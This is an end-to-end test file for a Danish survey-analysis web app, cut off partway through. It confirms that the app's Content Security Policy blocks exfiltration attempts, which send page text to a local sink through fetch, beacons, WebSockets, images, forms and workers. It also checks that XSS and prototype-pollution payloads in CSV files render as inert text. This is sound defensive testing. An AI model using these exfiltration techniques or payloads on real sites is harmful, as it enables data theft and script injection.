// Privacy and safety tests of the browser app in headless Chromium: exfiltration attempts are
// blocked, nothing from a file is stored in the browser, hostile text stays text, hostile files
// get a clear message, cancel is immediate, and personal data is included only on request.
// Standalone: serves www/ on an ephemeral 127.0.0.1 port, generates its inputs into a temporary
// folder, prints PASS/FAIL per test and exits non-zero on any failure.
//
//   node tests/e2e/privacy.test.mjs [--only name,name] [--keep]
//   TILFREDS_E2E_HUGE=1 node tests/e2e/privacy.test.mjs --only huge    (a 2.5 GB sparse file)
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { startServer } from './server.mjs';
import {
  ROOT, WWW, TIMEOUT, launchBrowser, openApp, renderCount, waitRender, settle, chooseFile, loadExample,
  selectBreakdown,
  runTests,
  SKIPPED,
} from './browser.mjs';

const argv = process.argv.slice(2);
const only = argv.includes('--only') ? argv[argv.indexOf('--only') + 1].split(',') : null;
const HUGE = process.env.TILFREDS_E2E_HUGE === '1';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tilfreds-privacy-'));

// ---------------------------------------------------------------------------------------------
// Inputs, written at test time.

function mulberry32(seed) {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let x = Math.imul(a ^ (a >>> 15), 1 | a);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const pad = (n) => String(n).padStart(2, '0');
const SCALE = ['Meget tilfreds', 'Tilfreds', 'Hverken tilfreds eller utilfreds', 'Utilfreds', 'Meget utilfreds'];

function write(name, content) {
  const file = path.join(tmp, name);
  fs.writeFileSync(file, content);
  return file;
}

function generate(name, args) {
  const out = path.join(tmp, `${name}.csv`);
  execFileSync('python3', [path.join(ROOT, 'bench', 'gen_survey.py'), ...args, '--out', out], { stdio: 'pipe' });
  return { path: out, name: `${name}.csv`, expected: JSON.parse(fs.readFileSync(out.replace(/\.csv$/, '.expected.json'), 'utf8')) };
}

/**
 * A file with synthetic CPR numbers, free-text comments holding CPR numbers and a sentence, a
 * made-up municipality and a question: the values that must never reach storage or the page.
 */
function makePersonalFile(seed = 7) {
  const rnd = mulberry32(seed);
  const places = ['Zylberstrup', 'Qvistrup Vesterhavn', 'Øster Xanderup'];
  const sentence = 'Min sagsbehandler Kirstine Zylberg ringede aldrig tilbage om min ryg';
  const cprs = [];
  const lines = ['CPR-nummer;Bopælskommune;Hvor tilfreds er du samlet set med jobcentret?;Kommentar'];
  for (let i = 0; i < 240; i++) {
    const digits = `${pad(1 + Math.floor(rnd() * 28))}${pad(1 + Math.floor(rnd() * 12))}${pad(Math.floor(rnd() * 100))}`;
    const cpr = `${digits}-${String(Math.floor(rnd() * 10000)).padStart(4, '0')}`;
    cprs.push(cpr);
    const answer = SCALE[Math.min(4, Math.floor(rnd() * rnd() * 6))];
    const comment = i % 8 === 0 ? `${sentence} (cpr ${cpr})` : i % 5 === 0 ? 'Fin service' : '';
    lines.push(`${cpr};${places[i % places.length]};${answer};${comment}`);
  }
  const file = write('personlige.csv', `${lines.join('\r\n')}\r\n`);
  return {
    path: file,
    name: 'personlige.csv',
    cprs,
    markers: [sentence, 'Kirstine Zylberg', ...places, ...cprs, ...cprs.map((c) => c.replace('-', ''))],
  };
}

const XSS = {
  img: '<img src=x onerror=window.__xss=1>',
  script: '<script>window.__xss=2</script>',
  js: 'javascript:window.__xss=3',
  svg: '"><svg onload=window.__xss=4>',
  proto: '__proto__',
  ctor: 'constructor',
  bidi: 'Kontor \u202Efdp.exe',
  /** The bidi header and answer as shown: the core strips the control character. */
  bidiShown: 'Kontor fdp.exe',
};

/** Headers and values that would run as script if any of them were parsed as markup. */
function makeHostileFile() {
  const quote = (s) => (/[";\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
  // Column 0 is the grouping (its values are the payloads); 1–3 are questions whose headers are
  // payloads; 4 is a second grouping with a payload header and prototype-named values.
  const header = [XSS.img, XSS.proto, XSS.ctor, `Spørgsmål ${XSS.svg}`, XSS.bidi];
  const groups = [XSS.script, XSS.js, XSS.svg, XSS.proto, XSS.ctor, XSS.bidi];
  const second = ['toString', 'hasOwnProperty', 'valueOf'];
  const rnd = mulberry32(5);
  const lines = [header.map(quote).join(';')];
  for (let i = 0; i < 180; i++) {
    const a = () => SCALE[Math.floor(rnd() * 5)];
    lines.push([groups[i % groups.length], a(), a(), a(), second[i % second.length]].map(quote).join(';'));
  }
  return { path: write('fjendtlig.csv', `${lines.join('\r\n')}\r\n`), name: 'fjendtlig.csv' };
}

const PNG_BYTES = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2ab8f0000000049454e44ae426082',
  'hex',
);

/** Every adversarial file: `analyse` means it must be analysed (with a warning if `warn`). */
function makeAdversarialFiles(base) {
  const files = [];
  files.push({ label: 'empty file', path: write('tom.csv', Buffer.alloc(0)), english: true });
  files.push({ label: '1 byte', path: write('en-byte.csv', Buffer.from('a')), english: true });
  files.push({ label: 'PNG renamed .csv', path: write('billede.csv', PNG_BYTES), english: true });
  files.push({ label: 'only a header', path: write('kun-overskrift.csv', 'ydelse;Hvor tilfreds er du?;Kommentar\r\n'), english: true });
  {
    const n = 20000;
    const head = Array.from({ length: n }, (_, i) => `Spørgsmål ${i + 1}`).join(';');
    const rows = Array.from({ length: 8 }, (_, r) => Array.from({ length: n }, (_, i) => SCALE[(i + r) % 5]).join(';'));
    files.push({ label: '20,000 columns', path: write('mange-kolonner.csv', `${head}\r\n${rows.join('\r\n')}\r\n`) });
  }
  {
    const file = path.join(tmp, 'langt-felt.csv');
    const fd = fs.openSync(file, 'w');
    fs.writeSync(fd, 'ydelse;Hvor tilfreds er du?\r\nFleksjob;Tilfreds\r\nFleksjob;"');
    const block = Buffer.alloc(1 << 20, 'x');
    for (let i = 0; i < 50; i++) fs.writeSync(fd, block);
    fs.closeSync(fd);
    files.push({ label: 'one 50 MB field (unterminated quote)', path: file, english: true });
  }
  {
    const text = fs.readFileSync(base.path);
    const out = Buffer.from(text);
    // NUL bytes scattered through the middle of an otherwise good file.
    for (let i = Math.floor(out.length / 3); i < out.length; i += 997) out[i] = 0;
    files.push({ label: 'NUL bytes', path: write('nul.csv', out) });
  }
  {
    // A UTF-8 file with an invalid sequence far past the first chunk, inside a question's
    // header-free data row (the comment column), so the counts must stay exact.
    const lines = fs.readFileSync(base.path).toString('latin1').split('\r\n');
    const at = Math.floor(lines.length * 0.8);
    lines[at] = `${lines[at]}\u00c3\u0028\u00ff`;
    files.push({
      label: 'invalid UTF-8 in the middle',
      path: write('ugyldig-utf8.csv', Buffer.from(lines.join('\r\n'), 'latin1')),
      analyse: true,
      warn: true,
      expected: base.expected,
    });
  }
  {
    const lines = fs.readFileSync(base.path, 'utf8').split('\r\n');
    const last = lines.pop();
    const endings = ['\r\n', '\n', '\r'];
    const text = lines.map((l, i) => l + endings[i % 3]).join('') + last;
    files.push({ label: 'mixed line endings', path: write('blandede-linjeskift.csv', text), analyse: true, expected: base.expected });
  }
  return files;
}

// ---------------------------------------------------------------------------------------------
// Helpers.

let browser;
let server;
let appUrl;

function newContext(options = {}) {
  return browser.newContext({ acceptDownloads: true, viewport: { width: 1200, height: 900 }, ...options });
}

/** A server on another port that counts every request it gets, whatever the method. */
async function startSink() {
  const hits = [];
  const sink = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    req.resume();
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
    res.end('ok');
  });
  sink.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => sink.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${sink.address().port}`,
    hits,
    close: () => new Promise((resolve) => {
      sink.closeAllConnections?.();
      sink.close(() => resolve());
    }),
  };
}

/** Collects `securitypolicyviolation` events of the page (installed before any page script). */
async function watchViolations(page) {
  const violations = [];
  await page.exposeFunction('reportViolation', (v) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.reportViolation(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return violations;
}

async function waitFor(predicate, ms = 3000) {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (await predicate()) return true;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return predicate();
}

/** Clicks every button named `label` and returns the downloads as { name, text, file }. */
async function downloadAll(page, label) {
  const out = [];
  const buttons = page.getByRole('button', { name: label, exact: true });
  const count = await buttons.count();
  for (let i = 0; i < count; i++) {
    let download = null;
    for (let attempt = 0; attempt < 3 && !download; attempt++) {
      [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 5_000 }).catch(() => null),
        buttons.nth(i).click(),
      ]);
    }
    if (!download) throw new Error(`no download from button ${i + 1} of ${count} "${label}"`);
    const file = path.join(tmp, `dl-${Date.now()}-${i}-${download.suggestedFilename()}`);
    await download.saveAs(file);
    out.push({ name: download.suggestedFilename(), text: fs.readFileSync(file, 'utf8'), file });
    await page.waitForTimeout(50);
  }
  return out;
}

/**
 * Chooses `file` and waits until the page has either rendered new results or shown an error,
 * with the worker idle. Returns what the user sees.
 */
async function offer(page, file, timeout = TIMEOUT) {
  await page.waitForSelector('body[data-ready="true"]');
  const before = await renderCount(page);
  await page.evaluate(() => document.getElementById('error').replaceChildren());
  const started = Date.now();
  await page.setInputFiles('#file', file);
  await page.waitForFunction(
    (n) => !document.body.dataset.busy
      && document.getElementById('progress-box').hidden
      && (Number(document.body.dataset.rendered || 0) > n || document.getElementById('error').textContent.trim() !== ''),
    before,
    { timeout },
  );
  return {
    ms: Date.now() - started,
    rendered: (await renderCount(page)) > before,
    error: (await page.locator('#error').innerText()).trim(),
    warnings: (await page.locator('#warnings-box').isVisible()) ? (await page.locator('#warnings').innerText()).trim() : '',
    facts: await page.locator('#facts').innerText(),
    columns: await page.locator('#columns-count').innerText(),
  };
}

const DANISH = /[æøå]|\b(filen|ikke|kan|kunne|er|og|ingen|der|en|for|til|med|har)\b/i;
const ENGLISH = /\b(the|file|not|could|is|no|has|too|with|only)\b/i;
const RAW = /[{}]|\bcode\b|RuntimeError|undefined|unreachable|panicked|\bnull\b/;

function danishNumber(value, decimals) {
  const [int, frac] = Math.abs(value).toFixed(decimals).split('.');
  return (value < 0 ? '-' : '') + int.replace(/\B(?=(\d{3})+(?!\d))/g, '.') + (frac ? `,${frac}` : '');
}

/** The n and top-2 share of each question as the page must show them (Danish). */
function expectedNumbers(expected) {
  return expected.questions.map(({ column, labels }) => {
    const counts = expected.overall[column];
    const c = labels.filter((l) => l !== 'Ved ikke').map((l) => counts[l] || 0);
    const n = c.reduce((a, b) => a + b, 0);
    const top2 = (100 * (c[0] + c[1])) / n;
    const f = top2 * 10;
    const variants = new Set([Math.round(f)]);
    if (Math.abs(f - Math.floor(f) - 0.5) < 1e-7) variants.add(Math.floor(f)).add(Math.ceil(f));
    return {
      column,
      index: expected.header.indexOf(column),
      n: danishNumber(n, 0),
      top2: [...variants].map((v) => `${danishNumber(v / 10, 1)}\u00a0%`),
    };
  });
}

async function assertNumbersShown(page, expected) {
  for (const q of expectedNumbers(expected)) {
    const text = await page.locator(`section.question[data-column="${q.index}"]`).innerText();
    assert.ok(text.includes(q.n), `n ${q.n} not shown for ${q.column}`);
    assert.ok(q.top2.some((v) => text.includes(v)), `top-2 ${q.top2.join('|')} not shown for ${q.column}`);
  }
}

/** Everything the origin keeps in the browser, as text, with where it was found. */
async function readStorage(context, page) {
  const cookies = await context.cookies();
  const inPage = await page.evaluate(async () => {
    const out = { documentCookie: document.cookie, local: {}, session: {}, indexedDB: [], caches: [], opfs: [] };
    for (let i = 0; i < localStorage.length; i++) {
      const k = localStorage.key(i);
      out.local[k] = localStorage.getItem(k);
    }
    for (let i = 0; i < sessionStorage.length; i++) {
      const k = sessionStorage.key(i);
      out.session[k] = sessionStorage.getItem(k);
    }
    const asText = async (v) => {
      if (v instanceof Blob) return v.text();
      if (v instanceof ArrayBuffer || ArrayBuffer.isView(v)) return new TextDecoder().decode(v);
      try {
        return JSON.stringify(v);
      } catch {
        return String(v);
      }
    };
    for (const info of await indexedDB.databases()) {
      const db = await new Promise((resolve, reject) => {
        const req = indexedDB.open(info.name);
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      for (const store of db.objectStoreNames) {
        const [keys, values] = await new Promise((resolve, reject) => {
          const tx = db.transaction(store, 'readonly');
          const s = tx.objectStore(store);
          const k = s.getAllKeys();
          const v = s.getAll();
          tx.oncomplete = () => resolve([k.result, v.result]);
          tx.onerror = () => reject(tx.error);
        });
        const texts = [];
        for (const v of values) texts.push(await asText(v));
        out.indexedDB.push({ db: info.name, store, keys: JSON.stringify(keys), values: texts.join('\n') });
      }
      db.close();
    }
    if (self.caches) {
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const req of await cache.keys()) {
          const res = await cache.match(req);
          out.caches.push({ cache: name, url: req.url, body: res ? await res.text() : '' });
        }
      }
    }
    if (navigator.storage && navigator.storage.getDirectory) {
      const walk = async (dir, prefix) => {
        for await (const [name, handle] of dir.entries()) {
          if (handle.kind === 'file') out.opfs.push({ name: prefix + name, body: await (await handle.getFile()).text() });
          else await walk(handle, `${prefix}${name}/`);
        }
      };
      try {
        await walk(await navigator.storage.getDirectory(), '');
      } catch {
        // no origin private file system
      }
    }
    return out;
  });
  return { cookies, ...inPage };
}

/** Files of www/ by URL path below the app's URL: what Cache Storage may legitimately hold. */
function ownAssetBodies() {
  const assets = new Map();
  const walk = (dir) => {
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else assets.set(path.relative(WWW, full).split(path.sep).join('/'), full);
    }
  };
  walk(WWW);
  return assets;
}

// ---------------------------------------------------------------------------------------------
// The tests.

const tests = [];
function test(name, fn) {
  tests.push({ name, fn });
}

test('exfiltration from the page and from the worker is blocked by the policy', async () => {
  const context = await newContext();
  const sink = await startSink();
  try {
    const page = await context.newPage();
    page.setDefaultTimeout(TIMEOUT);
    const violations = await watchViolations(page);
    await page.goto(appUrl);
    await page.waitForSelector('body[data-ready="true"]');
    await loadExample(page);

    const attempts = await page.evaluate(async (sinkUrl) => {
      const secret = encodeURIComponent(document.getElementById('facts').textContent.slice(0, 40));
      const results = {};
      const attempt = async (name, fn) => {
        try {
          results[name] = String(await fn());
        } catch (err) {
          results[name] = `threw ${err.name}`;
        }
      };
      await attempt('fetch', () => fetch(`${sinkUrl}/fetch?d=${secret}`, { mode: 'no-cors' }).then(() => 'sent'));
      await attempt('fetch POST', () => fetch(`${sinkUrl}/post`, { method: 'POST', mode: 'no-cors', body: secret }).then(() => 'sent'));
      await attempt('sendBeacon', () => navigator.sendBeacon(`${sinkUrl}/beacon`, secret));
      await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.open('GET', `${sinkUrl}/xhr?d=${secret}`);
        xhr.onload = () => resolve('sent');
        xhr.onerror = () => reject(new Error('blocked'));
        xhr.send();
      }));
      await attempt('WebSocket', () => new Promise((resolve, reject) => {
        const ws = new WebSocket(`${sinkUrl.replace('http', 'ws')}/ws?d=${secret}`);
        ws.onopen = () => resolve('open');
        ws.onerror = () => reject(new Error('blocked'));
        setTimeout(() => resolve('pending'), 1000);
      }));
      await attempt('EventSource', () => new Promise((resolve) => {
        const es = new EventSource(`${sinkUrl}/es?d=${secret}`);
        es.onerror = () => {
          es.close();
          resolve('error');
        };
        setTimeout(() => resolve('pending'), 1000);
      }));
      await attempt('img', () => new Promise((resolve) => {
        const img = document.createElement('img');
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('error');
        img.src = `${sinkUrl}/img?d=${secret}`;
        document.body.append(img);
      }));
      await attempt('css background', () => {
        const div = document.createElement('div');
        div.style.backgroundImage = `url("${sinkUrl}/css?d=${secret}")`;
        div.style.width = '10px';
        div.style.height = '10px';
        document.body.append(div);
        return new Promise((resolve) => setTimeout(() => resolve('appended'), 300));
      });
      await attempt('iframe', () => {
        const frame = document.createElement('iframe');
        frame.src = `${sinkUrl}/frame?d=${secret}`;
        document.body.append(frame);
        return new Promise((resolve) => setTimeout(() => resolve('appended'), 300));
      });
      await attempt('worker from another origin', () => new Worker(`${sinkUrl}/w.js`));
      await attempt('worker from a blob', () => {
        const blob = new Blob([`fetch(${JSON.stringify(`${sinkUrl}/blob-worker`)})`], { type: 'text/javascript' });
        return new Worker(URL.createObjectURL(blob));
      });
      await attempt('script element', () => new Promise((resolve) => {
        const s = document.createElement('script');
        s.src = `${sinkUrl}/s.js?d=${secret}`;
        s.onload = () => resolve('loaded');
        s.onerror = () => resolve('error');
        document.head.append(s);
      }));
      return results;
    }, sink.origin);

    assert.ok(await page.locator('#results').isVisible(), 'the page navigated away or lost its results');
    assert.match(attempts.fetch, /threw TypeError/, 'fetch not blocked');
    assert.match(attempts['fetch POST'], /threw TypeError/, 'fetch POST not blocked');
    assert.match(attempts['worker from another origin'], /threw/, 'worker from another origin was created');
    assert.match(attempts['worker from a blob'], /threw/, 'worker from a blob created by script');

    // The app's own worker: script running inside it is held to the same policy.
    const workers = page.workers();
    assert.equal(workers.length, 1, `expected the app's one worker, got ${workers.map((w) => w.url())}`);
    const inWorker = await workers[0].evaluate(async (sinkUrl) => {
      const seen = [];
      self.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
      const results = {};
      const attempt = async (name, fn) => {
        try {
          results[name] = String(await fn());
        } catch (err) {
          results[name] = `threw ${err.name}`;
        }
      };
      await attempt('fetch', () => fetch(`${sinkUrl}/worker-fetch`, { mode: 'no-cors' }).then(() => 'sent'));
      await attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.open('GET', `${sinkUrl}/worker-xhr`);
        xhr.onload = () => resolve('sent');
        xhr.onerror = () => reject(new Error('blocked'));
        xhr.send();
      }));
      await attempt('WebSocket', () => new Promise((resolve, reject) => {
        const ws = new WebSocket(`${sinkUrl.replace('http', 'ws')}/worker-ws`);
        ws.onopen = () => resolve('open');
        ws.onerror = () => reject(new Error('blocked'));
        setTimeout(() => resolve('pending'), 1000);
      }));
      await attempt('import', () => import(`${sinkUrl}/worker-import.js`).then(() => 'loaded'));
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { results, seen };
    }, sink.origin);
    assert.match(inWorker.results.fetch, /threw TypeError/, `fetch from the worker not blocked: ${JSON.stringify(inWorker)}`);
    assert.ok(inWorker.seen.includes('connect-src'), `no violation reported in the worker: ${JSON.stringify(inWorker)}`);

    // The page still works.
    await selectBreakdown(page, 'ydelse');
    // Last, since a blocked form submission leaves the page in a navigation that never ends.
    attempts['form post'] = await page.evaluate((sinkUrl) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${sinkUrl}/form`;
      const input = document.createElement('input');
      input.name = 'd';
      input.value = document.getElementById('facts').textContent.slice(0, 40);
      form.append(input);
      document.body.append(form);
      form.submit();
      return 'submitted';
    }, sink.origin);
    await page.waitForTimeout(500);
    assert.deepEqual(sink.hits, [], 'the other server was reached');
    const directives = new Set(violations.map((v) => v.split(' ')[0]));
    // A script element or a worker needs a Trusted Types URL, which only the app's policy makes.
    assert.match(attempts['script element'], /threw TypeError/, 'script element from another origin not blocked');
    for (const d of ['connect-src', 'img-src', 'form-action', 'frame-src']) {
      assert.ok(directives.has(d), `no ${d} violation reported: ${violations.join(', ')}`);
    }
    assert.ok(
      violations.filter((v) => v.startsWith('require-trusted-types-for')).length >= 3,
      `creating workers and a script element was not reported: ${violations.join(', ')}`,
    );
    console.log(`  page: ${JSON.stringify(attempts)}`);
    console.log(`  worker: ${JSON.stringify(inWorker.results)}`);
    console.log(`  violations: ${[...directives].join(', ')}`);
  } finally {
    await context.close();
    await sink.close();
  }
});

test('nothing from a file is stored: cookies, Web Storage, IndexedDB, Cache Storage', async () => {
  const context = await newContext();
  const personal = makePersonalFile();
  try {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin });
    const page = await openApp(context, appUrl);
    await loadExample(page);
    await selectBreakdown(page, 'kommune');
    // A headers-only choice the page remembers: a column left out.
    await page.locator('#columns-box summary').click();
    let changed = await renderCount(page);
    await page.locator('#columns tbody tr').filter({ has: page.locator('th', { hasText: 'kontaktform' }) }).locator('input[type=checkbox]').uncheck();
    await waitRender(page, changed);
    changed = await renderCount(page);
    await page.locator('#columns tbody tr').filter({ has: page.locator('th', { hasText: 'aldersgruppe' }) }).locator('select').selectOption('text');
    await waitRender(page, changed);
    await downloadAll(page, 'Hent tabel som CSV');
    await page.getByRole('button', { name: 'Hent diagram som SVG' }).first().click();
    await page.getByRole('button', { name: 'Kopiér tabel' }).first().click();
    await chooseFile(page, personal);
    await selectBreakdown(page, 'Bopælskommune');
    const before = await renderCount(page);
    await page.fill('#min-cell', '3');
    await page.locator('#min-cell').blur();
    await waitRender(page, before);
    const csv = await downloadAll(page, 'Hent tabel som CSV');
    await downloadAll(page, 'Hent diagram som PNG');
    assert.ok(csv.some((d) => d.text.includes('Zylberstrup')), 'the breakdown was not exported');
    await settle(page);

    const exampleText = fs.readFileSync(path.join(WWW, 'eksempel.csv')).toString('latin1');
    const exampleMarkers = [
      'Frederiksberg', 'Skanderborg', 'Uddannelseshj', '100001', '02-01-2025',
      'Man bliver m', 'Der g\u00e5r alt for lang tid',
    ];
    for (const m of exampleMarkers) assert.ok(exampleText.includes(m), `example marker ${m} not in the example`);
    // Every header and every value of both files that is long enough to be recognised (short
    // ones such as "5" or "Ja" would match any text), besides the hand-picked markers.
    const cellsOf = (text) => [...new Set(text.split(/\r?\n/).flatMap((line) => line.split(';')).map((c) => c.replace(/^"|"$/g, '').trim()))]
      .filter((c) => c.length >= 6);
    const everyValue = [...cellsOf(exampleText), ...cellsOf(fs.readFileSync(personal.path, 'utf8'))];
    const markers = [...personal.markers, ...exampleMarkers, ...everyValue];
    const assets = ownAssetBodies();
    const check = async (when) => {
      const stored = await readStorage(context, page);
      const anywhere = JSON.stringify({
        cookies: stored.cookies,
        documentCookie: stored.documentCookie,
        local: stored.local,
        session: stored.session,
        indexedDB: stored.indexedDB,
        opfs: stored.opfs,
      });
      const leaked = markers.filter((m) => anywhere.includes(m));
      assert.deepEqual(leaked.slice(0, 5), [], `file values in storage (${when})`);
      assert.deepEqual(stored.cookies, [], `cookies (${when})`);
      assert.equal(stored.documentCookie, '', `document.cookie (${when})`);
      assert.deepEqual(Object.keys(stored.session), [], `sessionStorage (${when})`);
      for (const [k, v] of Object.entries(stored.local)) {
        assert.ok(k.startsWith('tilfreds.') && v.length < 100, `localStorage ${k}=${v.slice(0, 80)} is not a setting (${when})`);
      }
      for (const entry of stored.caches) {
        const rel = new URL(entry.url).pathname.replace(/^\//, '');
        const own = assets.get(rel === '' || rel.endsWith('/') ? `${rel}index.html` : rel);
        assert.ok(own, `Cache Storage holds ${entry.url}, not one of the app's files (${when})`);
        const leakedHere = personal.markers.filter((m) => entry.body.includes(m));
        assert.deepEqual(leakedHere.slice(0, 3), [], `Cache Storage entry ${entry.url} holds file values (${when})`);
      }
      return stored;
    };
    const stored = await check('after the analysis');
    // Nothing comes back after a reload either: the page starts empty.
    await page.reload();
    await page.waitForSelector('body[data-ready="true"]');
    assert.ok(await page.locator('#results').isHidden(), 'results restored after a reload');
    await check('after a reload');
    console.log(`  localStorage keys: ${JSON.stringify(Object.keys(stored.local))}; IndexedDB stores: ${stored.indexedDB.length}; Cache Storage entries: ${stored.caches.length}; OPFS files: ${stored.opfs.length}`);
  } finally {
    await context.close();
  }
});

test('hostile headers and values are shown as text and never run', async () => {
  const context = await newContext();
  const hostile = makeHostileFile();
  try {
    const page = await context.newPage();
    page.setDefaultTimeout(TIMEOUT);
    const violations = await watchViolations(page);
    const dialogs = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      d.dismiss().catch(() => {});
    });
    page.errors = [];
    page.on('pageerror', (err) => page.errors.push(String(err)));
    page.on('console', (msg) => {
      if (msg.type() === 'error') page.errors.push(msg.text());
    });
    await page.goto(appUrl);
    await page.waitForSelector('body[data-ready="true"]');
    await chooseFile(page, hostile);

    const by = await page.locator('#by option').allTextContents();
    assert.ok(by.includes(XSS.img), `the payload column is not offered as a grouping: ${JSON.stringify(by)}`);
    await selectBreakdown(page, XSS.img);
    // The column list and the adjustments are filled when opened: opened, they are checked too.
    await page.locator('#columns-box summary').click();
    await page.locator('#mapping-box > summary').click();
    for (const d of await page.locator('#groups details').all()) await d.locator('summary').click();

    const xss = () => page.evaluate(() => window.__xss);
    assert.equal(await xss(), undefined, 'a payload ran');
    // Each payload is on the page as its literal text.
    for (const text of [XSS.img, XSS.proto, XSS.ctor, XSS.bidiShown]) {
      assert.ok(await page.locator('#columns th', { hasText: text }).count() > 0, `header ${JSON.stringify(text)} not in the column list`);
    }
    assert.ok(await page.getByText(`Spørgsmål ${XSS.svg}`, { exact: true }).count() > 0, 'header with "><svg not shown');
    assert.ok(await page.getByRole('heading', { name: XSS.proto, exact: true }).count() > 0, '__proto__ question heading missing');
    const breakdown = await page.locator('[id$="-breakdown-table"]').first().innerText();
    for (const text of [XSS.script, XSS.js, XSS.svg, XSS.proto, XSS.ctor, XSS.bidiShown]) {
      assert.ok(breakdown.includes(text), `group ${JSON.stringify(text)} missing from the breakdown table`);
    }
    assert.ok(!(await page.evaluate(() => document.body.innerText)).includes('\u202e'), 'a bidi control character on the page');
    assert.ok(await page.getByText(XSS.img, { exact: true }).count() > 0, 'getByText finds no <img … literal');
    assert.ok(await page.getByText(XSS.script, { exact: true }).count() > 0, 'getByText finds no <script> literal');
    for (const value of ['toString', 'hasOwnProperty', 'valueOf']) {
      assert.ok(await page.getByText(value, { exact: true }).count() > 0, `group ${value} missing`);
    }
    // No element or attribute came from the file.
    const injected = await page.evaluate(() => ({
      img: document.querySelectorAll('img[src="x"], img[onerror]').length,
      svg: document.querySelectorAll('svg[onload]').length,
      scripts: [...document.scripts].filter((s) => !s.src || new URL(s.src).origin !== location.origin).length,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
      links: [...document.querySelectorAll('[href], [src]')].map((e) => e.getAttribute('href') || e.getAttribute('src')).filter((h) => /^\s*javascript:/i.test(h)),
    }));
    assert.deepEqual(injected, { img: 0, svg: 0, scripts: 0, handlers: 0, links: [] }, 'elements from the file');

    // Exports: the CSV holds the text as text, the SVG escapes it and runs nothing when opened.
    const csv = await downloadAll(page, 'Hent tabel som CSV');
    const all = csv.map((d) => d.text).join('\n');
    for (const text of [XSS.script, XSS.js, XSS.proto, XSS.ctor]) assert.ok(all.includes(text), `CSV export lacks ${text}`);
    const svg = await downloadAll(page, 'Hent diagram som SVG');
    assert.ok(svg.length >= 2, 'no SVG exports');
    const viewer = await context.newPage();
    for (const d of svg) {
      await viewer.goto(pathToFileURL(d.file).href);
      await viewer.waitForTimeout(100);
      const doc = await viewer.evaluate(() => ({
        xss: window.__xss,
        root: document.documentElement.localName,
        tags: [...new Set([...document.querySelectorAll('*')].map((e) => e.localName))],
        handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => /^on|href$/i.test(n)),
        text: document.documentElement.textContent,
      }));
      assert.equal(doc.xss, undefined, `${d.name} ran a payload`);
      assert.equal(doc.root, 'svg', `${d.name} is not an SVG document`);
      assert.deepEqual(doc.tags.filter((t) => !['svg', 'g', 'rect', 'text', 'line', 'path', 'polyline', 'polygon', 'circle', 'title', 'desc', 'tspan', 'style', 'defs', 'clipPath'].includes(t)), [], `elements from the file in ${d.name}`);
      assert.deepEqual(doc.handlers, [], `attributes from the file in ${d.name}`);
      // The overview (named by its title, "Alle spørgsmål") has no groups.
      assert.ok(d.name.startsWith('alle-spoergsmaal') || doc.text.includes(XSS.js), `${d.name} lacks the group ${XSS.js} as text`);
      assert.doesNotMatch(doc.text, /\u202e/, `bidi control character in ${d.name}`);
    }
    await viewer.close();

    const before = await renderCount(page);
    await page.click('#lang-switch');
    await waitRender(page, before);
    assert.ok(await page.getByText(XSS.img, { exact: true }).count() > 0, 'literal gone in English');
    await page.waitForTimeout(300);
    assert.equal(await xss(), undefined, 'a payload ran');
    assert.deepEqual(dialogs, [], 'a dialog was opened');
    assert.deepEqual(violations, [], 'CSP violations');
    assert.deepEqual(page.errors, [], 'console errors');
  } finally {
    await context.close();
  }
});

const adversarial = [];

test('adversarial files: clear message in Danish and English, results kept, page usable', async () => {
  const context = await newContext();
  const base = generate('grundlag', ['--rows', '3000', '--seed', '31', '--encoding', 'utf-8', '--delimiter', ';']);
  const files = makeAdversarialFiles(base);
  try {
    const page = await openApp(context, appUrl);
    const dialogs = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      d.dismiss().catch(() => {});
    });
    await loadExample(page);
    const shownName = () => page.locator('#facts').innerText();
    for (const f of files) {
      const name = path.basename(f.path);
      const seen = await offer(page, f.path);
      adversarial.push({ label: f.label, ...seen });
      assert.doesNotMatch(seen.error, /intern fejl/, `${f.label}: the worker crashed: ${seen.error}`);
      if (f.analyse) {
        assert.ok(seen.rendered, `${f.label}: not analysed (${seen.error})`);
        assert.equal(seen.error, '', `${f.label}: error shown`);
        assert.ok(seen.facts.includes(name), `${f.label}: results of ${name} not shown`);
